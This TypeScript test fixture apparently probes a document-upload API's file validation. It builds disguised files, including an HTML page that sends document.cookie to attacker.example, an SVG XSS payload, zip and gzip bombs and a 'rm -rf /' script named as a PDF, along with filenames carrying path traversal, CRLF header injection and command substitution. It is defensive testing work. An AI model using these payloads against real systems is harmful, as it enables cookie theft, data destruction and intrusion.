import { gzipSync } from 'node:zlib';
import type { FormFile } from '../../support/documents';
import { brokenPdf, encryptedPdf, heicBytes, pngBytes, statementPdf } from '../../support/pdfs';

const page = Buffer.from('<!doctype html><script>fetch("//attacker.example/"+document.cookie)</script>');
const drawing = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');

/** Local header of a zip entry that claims four gigabytes, stored. */
const zip = Buffer.concat([
  Buffer.from('504b03041400000000000000000000000000ffffffffffffffff01000000', 'hex'),
  Buffer.from('a'),
  Buffer.alloc(1_000),
]);

/** Routes that take a file. */
export const uploadRoutes = [
  '/v1/documents/statements',
  '/v1/documents/void-cheque',
  '/v1/documents/supporting',
  '/v1/invoice/file',
] as const;

/** Files that are not what they say, or two things at once. */
export async function listDisguisedFiles(): Promise<Readonly<Record<string, FormFile>>> {
  const pdf = await statementPdf();
  const png = pngBytes();
  const file = (name: string, type: string, ...parts: readonly Buffer[]): FormFile => ({
    name,
    type,
    bytes: Buffer.concat(parts),
  });
  return {
    'a page': file('page.html', 'text/html', page),
    'a page named .pdf': file('page.pdf', 'application/pdf', page),
    'a page named .png': file('page.png', 'image/png', page),
    'a drawing with a script': file('drawing.svg', 'image/svg+xml', drawing),
    'a drawing named .png': file('drawing.png', 'image/png', drawing),
    'a PDF behind a page': file('a.pdf', 'application/pdf', page, pdf),
    'a page behind a PDF': file('a.html', 'text/html', pdf, page),
    'a page behind a PDF, named .pdf': file('a.pdf', 'application/pdf', pdf, page),
    'a page behind an image': file('a.png', 'image/png', png, page),
    'an image behind a page': file('a.png', 'image/png', page, png),
    'a PDF called an image': file('a.png', 'image/png', pdf),
    'an image called a PDF': file('a.pdf', 'application/pdf', png),
    'an archive': file('a.zip', 'application/zip', zip),
    'an archive named .pdf': file('a.pdf', 'application/pdf', zip),
    'a PDF behind an archive': file('a.pdf', 'application/pdf', zip, pdf),
    'a packed gigabyte': file('a.gz', 'application/gzip', gzipSync(Buffer.alloc(20_000_000))),
    'a packed gigabyte named .pdf': file('a.pdf', 'application/pdf', gzipSync(Buffer.alloc(20_000_000))),
    'a program': file('a.pdf', 'application/pdf', Buffer.from('4d5a9000', 'hex'), Buffer.alloc(500)),
    'a shell script': file('a.pdf', 'application/pdf', Buffer.from('#!/bin/sh\nrm -rf /\n')),
    'a GIF': file('a.gif', 'image/gif', Buffer.from('GIF89a'), Buffer.alloc(50)),
    'a HEIC': file('a.heic', 'image/heic', heicBytes()),
    nothing: file('a.pdf', 'application/pdf'),
    'four letters': file('a.pdf', 'application/pdf', Buffer.from('%PDF')),
    'half a PDF': file('a.pdf', 'application/pdf', await brokenPdf('cut')),
    'a PDF of noise': file('a.pdf', 'application/pdf', await brokenPdf('garbage')),
    'a locked PDF': file('a.pdf', 'application/pdf', await encryptedPdf()),
    'a type with a line end': file('a.pdf', 'application/pdf\\r\\nx-a: b', pdf),
    'no type': file('a.pdf', '', pdf),
  };
}

/** Names that lead elsewhere, or end a header, a line or a tag. */
export const strangeNames: readonly string[] = [
  '../../../../../../tmp/attack.pdf',
  '..\\..\\..\\attack.pdf',
  '/etc/passwd.pdf',
  'C:\\Windows\\attack.pdf',
  'file:///etc/passwd.pdf',
  '....//....//attack.pdf',
  '%2e%2e%2fattack.pdf',
  'a\u0000.pdf',
  'a.pdf\u0000.html',
  'a\r\nset-cookie: a=b.pdf',
  'a\nb.pdf',
  'a"; filename="b.html',
  "a'b.pdf",
  'a;b.pdf',
  '<script>alert(1)</script>.pdf',
  '{{7*7}}.pdf',
  '$(id).pdf',
  '`id`.pdf',
  '| id.pdf',
  '-rf.pdf',
  '.htaccess',
  '.pdf',
  '...',
  'CON.pdf',
  'a.pdf.exe',
  'a\u202efdp.exe',
  'e\u0301'.repeat(200),
  '名'.repeat(300),
  '💥'.repeat(100),
  'x'.repeat(5_000),
  '',
  ' ',
];
